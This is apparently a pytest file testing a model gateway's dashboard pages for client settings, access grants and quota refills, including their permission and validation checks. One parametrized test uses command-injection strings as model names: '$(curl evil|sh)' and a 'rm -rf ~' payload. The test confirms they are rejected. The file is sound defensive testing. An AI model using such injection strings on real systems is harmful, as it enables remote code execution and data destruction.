"""Tests of the pages Connect, Access and Quotas: what each caller is told, and what an admin may do."""

import json
import re
from html import unescape

import pytest

from gateway.call.context import GATEWAY
from gateway.contract.record import NANODOLLARS
from gateway.web.dashboard.frame import NAVIGATION
from tests.helpers.records import HAIKU
from tests.tools import client_settings
from tests.web.dashboard.application import ADMIN, NOBODY, POOR, USER

OPUS = "us.anthropic.claude-opus-4-6-v1"


@pytest.fixture
def text(get):
    """Get a page, and return its text without tags."""

    async def text(path, login=USER, status=200):
        code, html = await get(path, login)
        assert code == status, html
        return " ".join(unescape(re.sub(r"<[^>]+>", " ", html)).split())

    return text


def test_the_settings_are_those_of_the_page_of_clients():
    assert client_settings.FILE.read_bytes() == client_settings.file()
    blocks = [part["code"] for client in client_settings.clients() for part in client["parts"] if "code" in part]
    assert blocks == [
        block.rstrip("\n") for block in re.findall(r"```\w+\n(.*?)```", client_settings.PAGE.read_text(), re.DOTALL)
    ]


async def test_connect_shows_settings_with_this_address_and_the_chosen_model(text, client):
    page = await text(f"/ui/connect?client=Codex&model={OPUS}", ADMIN)
    assert f'model = "{OPUS}"' in page
    assert f'base_url = "http://127.0.0.1:{client.port}/v1"' in page
    assert "http://ai" not in page
    assert "claude-sonnet" not in page


async def test_every_client_of_the_page_can_be_chosen(text):
    for client in client_settings.clients():
        page = await text(f"/ui/connect?client={client['name']}")
        assert client["name"] in page
        assert "http://ai/" not in page


async def test_the_settings_of_opencode_name_each_model_once(get):
    _, html = await get("/ui/connect?client=opencode, Messages")
    settings = json.loads(
        unescape(re.search(r"<code>(\{.*?)</code></pre>", html, re.DOTALL)[1]), object_pairs_hook=list
    )
    (provider,) = dict(settings)["provider"]
    assert [name for name, _ in dict(provider[1])["models"]] == [HAIKU]


@pytest.mark.parametrize("model", [OPUS, "$(curl evil|sh)", "x'; rm -rf ~; '"])
async def test_connect_writes_no_model_of_the_address_into_a_command(text, model):
    assert "is not granted to you" in await text(f"/ui/connect?model={model}", USER, 400)


async def test_connect_tells_a_caller_without_models_what_to_ask_for(text):
    page = await text("/ui/connect", POOR)
    assert "No model is granted to you yet" in page
    assert POOR in page


async def test_access_says_by_which_grant_and_which_quotas(text):
    page = await text(f"/ui/access?as={USER}&model={HAIKU}", ADMIN)
    assert f"allowed {USER} may call {HAIKU}" in page
    assert f"bedrock/{HAIKU} daily:<user>" in page


async def test_access_gives_the_missing_grant_to_copy(text):
    page = await text(f"/ui/access?as={USER}&model=tiny", ADMIN)
    assert "not allowed" in page
    assert '{"models": "lab/tiny"}' in page
    assert '"role": "user"' in await text(f"/ui/access?as={NOBODY}&model=tiny", ADMIN)


async def test_a_user_asks_about_oneself_alone_and_learns_of_no_other_model(text):
    await text(f"/ui/access?as={ADMIN}&model=tiny", USER, 403)
    known, unknown = await text("/ui/access?model=tiny"), await text("/ui/access?model=tinx")
    assert known.replace("tiny", "tinx") == unknown
    assert "allowed" in await text(f"/ui/access?model={HAIKU}")


async def test_quotas_show_own_buckets_and_to_an_admin_all_that_are_in_use(text, client):
    client.app[GATEWAY].quotas.refill("team", 1)
    assert "team" in await text("/ui/quotas", ADMIN)
    page = await text("/ui/quotas")
    assert f"daily:{USER}" in page
    assert "$10.00/day" in page
    assert "Add" not in page
    assert "No quota applies to you" in await text("/ui/quotas", POOR)


async def test_quotas_say_whose_calls_are_refused_and_whose_are_only_reported(text, client):
    quotas = client.app[GATEWAY].quotas
    for bucket in (f"daily:{USER}", "team"):
        quotas.charge_unreserved((((bucket, ""),),), 300 * NANODOLLARS)
    page = await text("/ui/quotas", ADMIN)
    assert f"1 held: daily:{USER} . Its calls are refused. 1 over: team . Its calls go on, and are reported." in page


async def test_the_palette_has_every_page_before_anything_is_typed(text):
    page = await text("/ui/find", ADMIN)
    assert {entry.label for _, group in NAVIGATION for entry in group if f"{entry.label} page" not in page} == set()


async def refill(client, login, **form):
    path, headers = "/ui/quotas/refill", {"x-test-login": login}
    async with client.post(path, data=form, headers=headers, allow_redirects=False) as reply:
        return reply.status, reply.headers.get("location", ""), await reply.text()


async def test_an_admin_refills_a_bucket_by_the_form(client, text):
    status, location, _ = await refill(client, ADMIN, bucket=f"daily:{USER}", amount="2.50")
    assert status == 303
    assert "2.50 added to" in await text(location, ADMIN)


@pytest.mark.parametrize(
    ("login", "form", "status", "message"),
    [
        (USER, {"bucket": "team", "amount": "$1"}, 403, "only an admin"),
        (NOBODY, {"bucket": "team", "amount": "$1"}, 403, "no role"),
        (ADMIN, {"bucket": "team", "amount": "-1"}, 400, "must be a sum of dollars"),
        (ADMIN, {"bucket": "team", "amount": "0"}, 400, "above zero"),
        (ADMIN, {"bucket": "team"}, 400, "must be a sum of dollars"),
        (ADMIN, {"bucket": "none", "amount": "$1"}, 404, "No quota has a bucket"),
        (ADMIN, {"bucket": "x" * 5000, "amount": "$1"}, 400, "larger than"),
    ],
)
async def test_a_wrong_refill_is_told_on_a_page(client, login, form, status, message):
    code, _, html = await refill(client, login, **form)
    assert (code, message in html) == (status, True), html
